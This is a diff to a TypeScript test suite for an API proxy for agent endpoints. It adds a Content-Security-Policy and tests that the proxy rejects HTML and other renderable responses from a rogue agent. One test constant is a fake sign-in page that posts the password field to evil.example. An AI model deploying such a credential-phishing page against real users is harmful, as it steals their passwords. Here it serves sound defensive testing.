@@ -37,6 +37,9 @@ const ErrorModel = z.strictObject({
   errors: z.array(z.unknown()).nullable().optional(),
 });
 
+/** The API's own policy: an answer from /api is never a page that could run, load or post anything. */
+const API_CSP = "default-src 'none'; form-action 'none'; frame-ancestors 'none'; sandbox";
+
 const PREFIXES = ["/api/v2", "/api/experimental"] as const;
 const ENDPOINTS = [
   { name: "status", method: "GET" },
@@ -122,6 +125,7 @@ async function openEvents(url: string, token: string) {
   const res = await fetch(url, { headers: { "Coder-Session-Token": token, accept: "text/event-stream" }, signal: controller.signal });
   expect(res.status).toBe(200);
   expect(res.headers.get("content-type")).toMatch(/^text\/event-stream/);
+  expect(res.headers.get("content-security-policy")).toBe(API_CSP);
   const reader = res.body!.pipeThrough(new TextDecoderStream()).pipeThrough(new EventSourceParserStream()).getReader();
   const seen: EventSourceMessage[] = [];
   /** Reads until `done(seen)` holds, or fails after `timeoutMs`. */
@@ -174,6 +178,7 @@ for (const prefix of PREFIXES) {
           const ours = await raw("GET", `${prefix}/tasks/${user}/${ref}/agentapi/${endpoint}`, { token: alice.token });
           expect(ours.status, ours.text).toBe(theirs.status);
           expect(ours.headers.get("content-type")).toBe(theirs.headers.get("content-type"));
+          expect(ours.headers.get("content-security-policy")).toBe(API_CSP);
           expect(ours.text).toBe(theirText);
         }
       }
@@ -326,6 +331,79 @@ for (const prefix of PREFIXES) {
     });
   });
 }
+
+/**
+ * An agent gone bad (it can register its own server): answers every request with whatever type
+ * and body it is set to — a fake sign-in page posting to another host, say.
+ */
+async function startImpostor() {
+  let answer: { type?: string; body: string } = { type: "application/json", body: "{}" };
+  const server = http.createServer((req, res) => {
+    req.resume();
+    res.writeHead(200, answer.type === undefined ? {} : { "content-type": answer.type });
+    res.end(answer.body);
+  });
+  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+  return {
+    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
+    answer: (type: string | undefined, body: string) => (answer = { type, body }),
+    close: () =>
+      new Promise<void>((resolve) => {
+        server.close(() => resolve());
+        server.closeAllConnections();
+      }),
+  };
+}
+
+describe("an agent's answer passes through only as what the endpoint claims to answer", () => {
+  let impostor: Awaited<ReturnType<typeof startImpostor>>;
+  let task: Task;
+  const at = (endpoint: string) => `/api/v2/tasks/me/${task.id}/agentapi/${endpoint}`;
+  const call = (method: string, endpoint: string) =>
+    raw(method, at(endpoint), { token: alice.token, ...(method === "POST" ? { body: { content: "hello", type: "user" } } : {}) });
+  const PHISHING = `<!doctype html><title>Sign in</title><form method="post" action="https://evil.example/steal"><input name="password" type="password"><button>Sign in</button></form>`;
+
+  beforeAll(async () => {
+    impostor = await startImpostor();
+    task = await aliceTask(impostor);
+  });
+  afterAll(async () => {
+    await impostor?.close();
+  });
+
+  it("a fake sign-in page (text/html) from the agent is a 502 in the API's shape on every endpoint, never the page", async () => {
+    impostor.answer("text/html; charset=utf-8", PHISHING);
+    for (const { name, method } of ENDPOINTS) {
+      const res = await call(method, name);
+      expectError(res, 502, /content type/);
+      expect(res.headers.get("content-type")).toBe("application/json");
+      expect(res.headers.get("content-security-policy")).toBe(API_CSP);
+      expect(res.text).not.toContain("<form");
+      expect(res.body.detail).toContain("text/html");
+    }
+  });
+
+  it("nor any other type a browser might render or run, a missing one, or a list smuggling one in", async () => {
+    for (const type of [undefined, "", "TEXT/HTML", "application/xhtml+xml", "image/svg+xml", "text/plain", "application/javascript", "text/xml", "application/json, text/html", "text/event-stream"]) {
+      impostor.answer(type, PHISHING);
+      expectError(await call("GET", "status"), 502, /content type/);
+    }
+    // The event stream is server-sent events and nothing else, JSON included.
+    for (const type of ["application/json", "text/html", "text/plain"]) {
+      impostor.answer(type, "{}");
+      expectError(await call("GET", "events"), 502, /content type/);
+    }
+  });
+
+  it("JSON stays JSON (whatever its parameters), answered in the server's own spelling, under the API's policy", async () => {
+    impostor.answer("Application/JSON; charset=utf-8; x=<script>", `{"status":"stable","agent_type":"custom","transport":"acp"}`);
+    const res = await call("GET", "status");
+    expect(res.status).toBe(200);
+    expect(res.headers.get("content-type")).toBe("application/json");
+    expect(res.headers.get("content-security-policy")).toBe(API_CSP);
+    expect(res.body).toEqual({ status: "stable", agent_type: "custom", transport: "acp" });
+  });
+});
 
 describe("the agent's own port", () => {
   it("refuses a request without its secret, or with the wrong one (401)", async () => {
